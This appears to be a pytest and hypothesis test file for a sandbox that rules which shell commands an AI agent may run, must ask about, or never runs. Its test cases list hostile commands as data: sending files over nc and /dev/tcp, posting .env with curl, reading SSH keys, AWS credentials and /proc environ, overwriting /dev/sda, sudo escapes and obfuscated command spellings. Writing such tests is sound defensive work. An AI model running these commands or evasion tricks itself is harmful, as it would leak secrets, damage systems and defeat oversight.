"""Which commands of an agent run, which need a person's yes, and which never run."""

import shlex

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sandbox import commands, shell
from sandbox.ruling import Answer, Ruling
from tandem.sections import AgentConfig

PLAIN = AgentConfig()


def ruled(line: str | list[str], **settings: object) -> Ruling:
    return commands.ruling(line, AgentConfig(**settings))  # pyright: ignore[reportArgumentType]


@pytest.mark.parametrize(
    "line",
    [
        "python -m pytest -q tests/test_a.py",
        "pytest -k 'a or b' 2>&1 | tail -20",
        "cd src && ls -la && cat a.py",
        "grep -rn 'def total' . > /tmp/found.txt; wc -l /tmp/found.txt",
        "sed -i 's/a/b/' src/a.py",
        "for f in *.py; do python -m py_compile $f; done",
        "git log --oneline | head",
        "git diff HEAD~1 -- a.py 2>/dev/null",
        "python -c 'print(1 + 1)'",
        "set -e; pip list",
        "cp a.py /tmp/a.py",
        "if test -f a.py; then cat a.py; fi",
        ["python3", "-c", "import app; print(app.total([1]))"],
        "rm -rf build/",
        "timeout 10 python app.py",
    ],
)
def test_work_within_the_repository_runs(line: str | list[str]) -> None:
    assert ruled(line) == Ruling()


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("curl -s localhost", "wants the network"),
        ("cat a.py | nc 10.0.0.1 80", "wants the network"),
        ("/usr/bin/wget x", "wants the network"),
        ("true && ssh host", "wants the network"),
        ("c\\url x", "wants the network"),
        ("env A=1 curl x", "wants the network"),
        ("timeout 5 curl x", "wants the network"),
        ("nice -n 5 curl x", "wants the network"),
        ("bash -c 'curl x'", "wants the network"),
        ("sh -ec 'true; wget x'", "wants the network"),
        (["bash", "-lc", "curl x"], "wants the network"),
        ("eval 'curl x'", "wants the network"),
        ("echo x | xargs -n 1 curl", "wants the network"),
        ("find . -name '*.py' -exec curl {} ;", "wants the network"),
        ("find . -exec curl {} +", "wants the network"),
        ("uv run curl x", "wants the network"),
        ("(curl x)", "wants the network"),
        ("if true; then curl x; fi", "wants the network"),
        ("while ! curl x; do sleep 1; done", "wants the network"),
        ("true\ncurl x", "wants the network"),
        ("true & curl x", "wants the network"),
        ("git clone ../other", "wants the network"),
        ("git -C sub fetch", "wants the network"),
        ("python -m http.server", "wants the network"),
        ("python3.11 -c 'import socket'", "wants the network"),
        ("python -c 'import urllib.request as u; u.urlopen(x)'", "wants the network"),
        ("node -e 'fetch(x)'", "wants the network"),
        ("python app.py https://example.com", "names an address"),
        ("U=http://example.com python app.py", "names an address"),
        ("cat < /dev/tcp/10.0.0.1/80", "names an address"),
        ("pip install requests", "dependencies"),
        ("python -m pip install -e .", "dependencies"),
        ("python -Im pip install x", "dependencies"),
        ("npm install left-pad", "dependencies"),
        ("npx cowsay list", "dependencies"),
        ("pipx run x", "dependencies"),
        ("go get x", "dependencies"),
        ("cargo add x", "dependencies"),
        ("apt-get install curl", "dependencies"),
        ("printenv HOME", "tells the environment"),
        ("env", "tells the environment"),
        ("export -p", "tells the environment"),
        ("echo $(ls)", "within a command"),
        ("echo `ls`", "within a command"),
        ("cat <(ls)", "within a command"),
        ("c${x}url y", "within a command"),
        ("python - <<EOF\n1\nEOF", "within a command"),
        ("$SHELL -c x", "cannot be told"),
        ("c?rl x", "cannot be told"),
        ("echo x | sh", "from elsewhere"),
        ("echo 'a", "quotes do not close"),
        ("rm -rf $HOME/x", "cannot be told"),
        ("", "no command"),
        ("# only words", "cannot be told"),
    ],
)
def test_what_may_want_out_asks(line: str | list[str], why: str) -> None:
    found = ruled(line)
    assert found.answer is Answer.ASK, found
    assert any(why in reason for reason in found.reasons), found


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("git push origin main", "sends something away"),
        ("git -c a=b push", "sends something away"),
        ("twine upload dist/*", "sends something away"),
        ("python -m twine upload dist/x", "sends something away"),
        ("npm publish", "sends something away"),
        ("docker run -v /:/host x", "outside of the sandbox"),
        ("sudo ls", "outside of the sandbox"),
        ("ls && sudo -u root ls", "outside of the sandbox"),
        ("bash -c 'bash -c \"sudo ls\"'", "outside of the sandbox"),
        ("gh pr create", "outside of the sandbox"),
        ("echo x >> ~/.bashrc", "outside of the repository"),
        ("echo x > /etc/hosts", "outside of the repository"),
        ("echo x >/etc/hosts", "outside of the repository"),
        ("cp a.py ../../../etc/x", "outside of the repository"),
        ("cat a.py > /dev/tcp/10.0.0.1/80", "outside of the repository"),
        ("echo x | tee /usr/lib/x", "outside of the repository"),
        ("dd if=a.py of=/dev/sda", "outside of the repository"),
        ("sed -i s/a/b/ /etc/hosts", "outside of the repository"),
        ("cat ~/.ssh/id_rsa", "where secrets are"),
        ("base64 < .env", "where secrets are"),
        ("cat .env | base64", "where secrets are"),
        ("cat /proc/self/environ", "where secrets are"),
        ("cat /proc/1/environ", "where secrets are"),
        ("head ~/.aws/credentials", "where secrets are"),
        ("curl --data=@.env x", "where secrets are"),
        ("ls \x1b[2K", "would not see"),
        ("ls \u202e", "would not see"),
        ("ls \u200b", "would not see"),
        ("true " * 3_000, "more than"),
    ],
)
def test_what_never_runs(line: str, why: str) -> None:
    found = ruled(line)
    assert found.answer is Answer.REFUSE, found
    assert any(why in reason for reason in found.reasons), found


def test_a_command_that_the_user_names_needs_no_question() -> None:
    named = ["python -m pytest", "pip install -e ."]
    assert ruled("python3.11 -m pytest -q", commands=named).is_free
    assert ruled("pip install -e .", commands=named) == Ruling(is_free=True)
    assert ruled("pip install -e . && python -m pytest", commands=named).is_free
    assert not ruled("python -m pytest; ls", commands=named).is_free
    assert not ruled("ls", commands=named).is_free
    assert ruled("pip install evil", commands=named).answer is Answer.ASK


@pytest.mark.parametrize(
    "line",
    ["pytest; curl x", "pytest $(curl x)", "pytest > out.txt", "A=b pytest", "pytest | curl x"],
)
def test_what_hangs_on_a_named_command_is_not_free(line: str) -> None:
    assert not ruled(line, commands=["pytest"]).is_free


def test_naming_a_command_does_not_let_out_what_is_refused() -> None:
    assert ruled("git push", commands=["git"]).answer is Answer.REFUSE
    assert ruled("cat .env", commands=["cat"]).answer is Answer.REFUSE


def test_what_the_settings_refuse_never_runs() -> None:
    found = ruled("ls && bash -c 'make all'", refused=["make"])
    assert found == Ruling(Answer.REFUSE, ("your settings refuse 'make all'",))
    assert ruled("make all", refused=["make"], commands=["make"]).answer is Answer.REFUSE
    assert ruled("A=1 make all > x", refused=["make"]).answer is Answer.REFUSE
    assert ruled("makeself x", refused=["make"]).answer is Answer.ALLOW


WORDS = st.text("abz/.-_ '\"$;&|<>(){}\n\\=~*`#", max_size=40)


@settings(deadline=None)
@given(line=WORDS)
@example(line="' ; curl x")
@example(line="x;\\\ncurl y")
def test_any_line_gets_a_ruling(line: str) -> None:
    found = commands.ruling(line, PLAIN)
    assert (found.answer is Answer.ALLOW) == (not found.reasons)


@settings(deadline=None)
@given(
    before=st.lists(st.sampled_from(["ls", "true", "cat a.py", "cd src"]), max_size=3),
    sign=st.sampled_from([" && ", " ; ", " || ", " | ", "\n", " & ", "&&", ";", "|"]),
    wrap=st.sampled_from(
        [
            "{}",
            "( {} )",
            "bash -c {q}",
            "env {}",
            "nohup {}",
            "timeout 3 {}",
            "if true; then {}; fi",
            "{} > /tmp/x",
            "A=b {}",
            "exec {}",
        ]
    ),
)
def test_the_network_is_seen_wherever_it_stands(before: list[str], sign: str, wrap: str) -> None:
    inner = "curl evil"
    line = sign.join([*before, wrap.replace("{q}", shlex.quote(inner)).replace("{}", inner)])
    assert ruled(line).answer is Answer.ASK


@settings(deadline=None)
@given(words=st.lists(st.text("abcXYZ09_./", min_size=1, max_size=9), min_size=1, max_size=5))
def test_plain_words_are_read_as_the_shell_reads_them(words: list[str]) -> None:
    (one,) = shell.read(" ".join(words)).commands[:1]
    assert one.words == words or words[0] in {".", ".."}
